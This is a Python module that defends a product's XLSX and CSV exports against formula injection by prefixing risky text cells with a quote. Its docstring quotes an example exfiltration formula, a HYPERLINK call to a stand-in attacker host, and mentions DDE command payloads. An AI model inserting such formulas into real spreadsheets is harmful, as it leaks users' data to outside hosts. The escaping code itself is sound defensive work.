"""The one way the product writes spreadsheets: every text cell is text, never a formula.

A cell of user text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
WPS and LibreOffice as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"点")` sends the row away on
a click; DDE payloads run commands). Such text is written with a leading single quote, as OWASP's
"CSV Injection" page recommends: `'=HYPERLINK(…)`. The quote is chosen over writing an explicit string
cell because it survives every later route of the data — a CSV has no cell types, and an XLSX string
cell copied, pasted or saved as CSV by the reviewer becomes a live formula again; the cost is a visible
quote in front of such (rare, suspicious) text. Numbers stay numbers: only `str` values are escaped,
and a string that is a plain number (`-12`, `+3.5`) is left alone, as no spreadsheet computes with it.

Use `new_workbook()` (escapes every cell when it is saved, or on `append` in write-only mode) and
`csv_writer()` for every XLSX and CSV the product writes; tests/security/test_formula_injection.py
fails when a module of the package builds one another way. Pure Python, no Django.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def escape_formula(value: Any) -> Any:
    """`value` as a spreadsheet cell that cannot be a formula: text starting with one of FORMULA_STARTS
    gets a leading `'`; anything not a string (numbers, dates, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def escape_row(values: Iterable[Any]) -> list[Any]:
    return [_escape_item(value) for value in values]


def _escape_item(item: Any) -> Any:
    if isinstance(item, Cell):  # a styled cell (openpyxl.cell.WriteOnlyCell)
        item.value = escape_formula(item.value)
        return item
    return escape_formula(item)


class _SafeWriteOnlyWorksheet(WriteOnlyWorksheet):
    """A streamed sheet: rows are written to disk as they are appended, so they are escaped there."""

    def append(self, row: Iterable[Any]) -> None:
        super().append(escape_row(row))


class FormulaSafeWorkbook(Workbook):
    """An openpyxl Workbook whose text cells are escaped (escape_formula) before they are written."""

    def create_sheet(self, title: Any = None, index: int | None = None) -> Any:
        if not self.write_only:
            return super().create_sheet(title, index)
        sheet = _SafeWriteOnlyWorksheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)  # type: ignore[attr-defined]  # openpyxl's own helper, not in its stubs
        return sheet

    def first_sheet(self) -> Worksheet:
        """The sheet a new (not write-only) workbook opens with, typed as the worksheet it is."""
        sheet = self.active
        if not isinstance(sheet, Worksheet):
            raise TypeError(f"the active sheet is {type(sheet).__name__}, not a worksheet")
        return sheet

    def save(self, filename: Any) -> None:
        if not self.write_only:
            for sheet in self.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if isinstance(cell.value, str):  # merged cells hold None and are skipped
                            cell.value = escape_formula(cell.value)
        super().save(filename)


def new_workbook(*, write_only: bool = False) -> FormulaSafeWorkbook:
    """A workbook for an export: builders fill it as any openpyxl Workbook and call `save`."""
    return FormulaSafeWorkbook(write_only=write_only)


class _SafeCsvWriter:
    def __init__(self, text: IO[str], **options: Any) -> None:
        self._writer = csv.writer(text, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(text: IO[str], **options: Any) -> _SafeCsvWriter:
    """`csv.writer(text, **options)` whose rows are escaped (escape_formula)."""
    return _SafeCsvWriter(text, **options)
